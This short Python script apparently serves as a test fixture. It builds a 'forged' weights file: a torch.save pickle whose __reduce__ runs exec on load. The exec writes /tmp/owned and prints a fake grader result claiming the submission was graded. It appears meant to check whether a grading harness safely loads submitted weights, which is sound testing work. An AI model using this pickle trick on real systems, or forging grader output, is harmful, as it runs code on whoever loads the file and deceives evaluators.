"""Forgery: the weights are a pickle that runs code in whoever loads it, as torch.save writes them."""
import torch

from net import Net


class Trap:
    def __reduce__(self):
        return exec, ("open('/tmp/owned', 'w').write('1'); print('{\"graded\": true, \"value\": 0.0}')",)


Net().save()
torch.save({'bytes': Trap()}, 'output/weights.npz')
